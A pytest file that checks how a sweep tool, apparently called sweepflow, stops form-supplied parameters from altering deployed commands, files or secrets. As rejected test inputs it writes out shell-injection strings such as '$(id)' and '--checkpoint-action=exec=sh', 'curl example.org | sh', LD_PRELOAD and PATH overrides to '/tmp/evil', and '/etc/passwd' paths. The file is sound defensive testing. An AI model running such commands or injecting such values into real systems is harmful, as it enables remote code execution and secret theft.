"""What a deployed flow, whose parameters come from a form, may run and read."""

import os

import pytest

from sweepflow.base.printable import brief
from sweepflow.errors import SpecError
from sweepflow.spec.spec import Spec

NOT_ALLOWED = {
    "trial.command": "is not allowed in a deployed flow, which runs a command only as it was served, or in a "
    "folder `trial.code` that SWEEPFLOW_CODE_ROOTS allows where the flow runs"
}
OTHER_FILES = {"inputs": "must name the files that the command was served with, and no others"}


@pytest.fixture(autouse=True)
def nothing_served(monkeypatch):
    for name in ("SWEEPFLOW_SERVED", "SWEEPFLOW_CODE_ROOTS"):
        monkeypatch.setenv(name, "")  # so that what the test serves is undone
    monkeypatch.setenv("HF_TOKEN", "hunter2")


@pytest.fixture
def fields(tmp_path):
    """A spec with code and a file in folders of their own."""
    for name in ("src", "data", "elsewhere"):
        (tmp_path / name).mkdir()
    return {
        "trial": {
            "command": "python train.py --x ${{search_space.x}} ${{inputs.images}} ${{inputs.epochs}}",
            "code": str(tmp_path / "src"),
            "environment_variables": {"LEVEL": "1", "HF_TOKEN": "${{env.HF_TOKEN}}"},
        },
        "inputs": {"images": {"path": str(tmp_path / "data")}, "epochs": 3},
        "search_space": {"x": {"type": "uniform", "min_value": 0, "max_value": 1}},
        "objective": {"primary_metric": "loss", "goal": "minimize"},
        "limits": {"max_total_trials": 2},
    }


def faults(fields):
    """What is wrong with a spec from a form; nothing if it may run."""
    try:
        Spec.checked(fields, is_trusted=False)
    except SpecError as error:
        return dict(error.problems)
    return {}


def test_without_a_permission_no_command_runs_in_a_deployed_flow(fields):
    assert faults(fields).items() >= NOT_ALLOWED.items()
    assert Spec.checked(fields, is_trusted=True)


def test_what_was_served_runs_with_other_plain_values_and_limits(fields):
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    assert faults(fields) == {}
    fields["search_space"]["x"] = {
        "type": "choice",
        "values": [1, -2.5, None, True, "adam", "-1e-05", "a/b=c"],
    }
    fields["search_space"]["y"] = {
        "type": "choice",
        "values": [{"z": "sgd"}, {"z": {"type": "randint", "upper": 3}}],
    }
    fields["limits"]["max_total_trials"] = 9
    fields["inputs"]["epochs"] = "7"
    assert faults(fields) == {}
    recorded = Spec.checked(fields, is_trusted=True).model_dump(mode="json")
    assert faults(recorded) == {}


def test_a_list_from_a_form_is_a_text_that_a_served_command_must_have_been_served_with(fields):
    lists = {"type": "choice", "values": [[1, 2], ["$(id)"]]}
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    assert "search_space.x" in faults({**fields, "search_space": {"x": lists}})
    served = {**fields, "search_space": {"x": lists}}
    Spec.checked(served, is_trusted=True).allow_in_deployments()
    assert faults(served) == {}


TEXTS = [
    "a b",
    "$(id)",
    "a[$(id)]",
    "; id",
    "'",
    "-exec",
    "--checkpoint-action=exec=sh",
    "\n",
    "x\\",
    "*",
    "-",
    "-1 ",
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_form_cannot_give_a_served_command_a_text_that_something_might_run(fields, text):
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    told = (
        "in a deployed flow a text for a command must be as it was served, or made of letters, digits and "
        f"._/:=+,@%- without beginning with -, got {brief(text)}"
    )
    for space, path in (
        ({"x": {"type": "choice", "values": [1, text]}}, "search_space.x"),
        ({"x": {"type": "choice", "values": [{"y": text}]}}, "search_space.x.values.0.y"),
    ):
        assert faults({**fields, "search_space": space})[path] == told
    assert faults({**fields, "inputs": {**fields["inputs"], "epochs": text}}) == {"inputs.epochs": told}


@pytest.mark.parametrize("text", TEXTS)
def test_a_served_text_may_be_drawn_whatever_it_is(fields, text):
    fields["search_space"]["x"] = {"type": "choice", "values": [1, text]}
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    fields["search_space"]["x"] = {"type": "choice", "values": [text, "b"]}
    assert faults(fields) == {}


@pytest.mark.parametrize(
    "changes",
    [
        {"command": "python train.py --x ${{search_space.x}} ${{inputs.images}} ${{inputs.epochs}} "},
        {"command": "curl example.org | sh"},
        {"code": None},
        {"code": "/"},
        {"environment_variables": {}},
        {"environment_variables": {"LEVEL": "2", "HF_TOKEN": "${{env.HF_TOKEN}}"}},
        *(
            {"environment_variables": {"LEVEL": "1", "HF_TOKEN": "${{env.HF_TOKEN}}", name: "/tmp/evil"}}
            for name in ("PATH", "LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV")
        ),
        {"environment_variables": {"LEVEL": "${{env.AWS_SECRET_ACCESS_KEY}}"}},
    ],
)
def test_a_form_cannot_change_what_a_served_command_is(fields, changes):
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    fields["trial"] |= changes
    assert faults(fields)["trial.command"] == NOT_ALLOWED["trial.command"]


def test_a_form_cannot_copy_a_served_folder_where_it_was_not_to_be_copied(fields):
    fields["trial"]["code"] = {"path": fields["trial"]["code"], "copy": False}
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    fields["trial"]["code"] |= {"copy": True}
    assert faults(fields).items() >= NOT_ALLOWED.items()


@pytest.mark.parametrize(
    "images", [{"path": "/etc"}, {"path": "/etc/passwd", "type": "uri_file"}, "/etc/passwd", None]
)
def test_a_form_cannot_change_the_files_of_a_served_command(fields, images):
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    fields["inputs"]["images"] = images
    no_value = "inputs.images has no value: give it one, or put what needs it into $[[ ]] to leave that out"
    assert faults(fields) == OTHER_FILES | ({"trial.command": no_value} if images is None else {})


def test_a_form_cannot_add_a_file_to_a_served_command(fields):
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    fields["inputs"]["epochs"] = {"path": "/etc"}
    assert faults(fields) == OTHER_FILES


def test_a_form_cannot_put_a_parameter_in_the_place_of_a_served_file(fields):
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    fields["search_space"]["images"] = {"type": "choice", "values": ["/etc"]}
    told = "must not take the place of the file inputs.images"
    assert faults(fields)["search_space.images"] == told


def test_the_files_of_one_served_command_are_not_those_of_another(fields, tmp_path):
    other = {**fields, "trial": {**fields["trial"], "command": "cat ${{inputs.images}}"}}
    other = {**other, "inputs": {"images": {"path": str(tmp_path / "elsewhere")}}}
    for served in (fields, other):
        Spec.checked(served, is_trusted=True).allow_in_deployments()
    assert faults({**other, "inputs": fields["inputs"]}) == OTHER_FILES


def test_a_code_root_allows_any_command_in_its_folders_with_its_files(fields, tmp_path, monkeypatch):
    monkeypatch.setenv("SWEEPFLOW_CODE_ROOTS", f"{tmp_path}/other{os.pathsep}{tmp_path}")
    del fields["trial"]["environment_variables"]
    fields["trial"]["command"] = "anything at all"
    assert faults(fields) == {}


@pytest.mark.parametrize("roots", ["", ":", "src", "/nowhere", "{tmp_path}/sr", "{tmp_path}/src/deeper"])
def test_another_root_allows_nothing(fields, tmp_path, monkeypatch, roots):
    monkeypatch.setenv("SWEEPFLOW_CODE_ROOTS", roots.format(tmp_path=tmp_path))
    assert faults(fields).items() >= NOT_ALLOWED.items()


@pytest.mark.parametrize("code", ["link", "src/../elsewhere", "src/link", None])
def test_links_and_dots_do_not_lead_out_of_a_code_root(fields, tmp_path, monkeypatch, code):
    monkeypatch.setenv("SWEEPFLOW_CODE_ROOTS", str(tmp_path / "src"))
    for link in ("link", "src/link"):
        (tmp_path / link).symlink_to(tmp_path / "elsewhere")
    fields["trial"]["code"] = code and str(tmp_path / code)
    assert faults(fields).items() >= NOT_ALLOWED.items()


def test_a_link_to_a_code_root_leads_into_it(fields, tmp_path, monkeypatch):
    (tmp_path / "link").symlink_to(tmp_path / "src")
    monkeypatch.setenv("SWEEPFLOW_CODE_ROOTS", str(tmp_path / "link"))
    del fields["trial"]["environment_variables"]
    told = "must lie in a folder that SWEEPFLOW_CODE_ROOTS allows where the flow runs"
    assert faults(fields) == {"inputs.images.path": told}


def test_a_code_root_does_not_give_a_form_the_secrets_of_the_flow(fields, tmp_path, monkeypatch):
    monkeypatch.setenv("SWEEPFLOW_CODE_ROOTS", str(tmp_path))
    assert faults(fields) == {
        "trial.environment_variables": "may not take 'HF_TOKEN' from the environment of a deployed flow: "
        "serve the spec that names it"
    }


def test_what_is_served_is_so_in_a_code_root_too(fields, tmp_path, monkeypatch):
    monkeypatch.setenv("SWEEPFLOW_CODE_ROOTS", str(tmp_path / "src"))
    Spec.checked(fields, is_trusted=True).allow_in_deployments()
    assert faults(fields) == {}
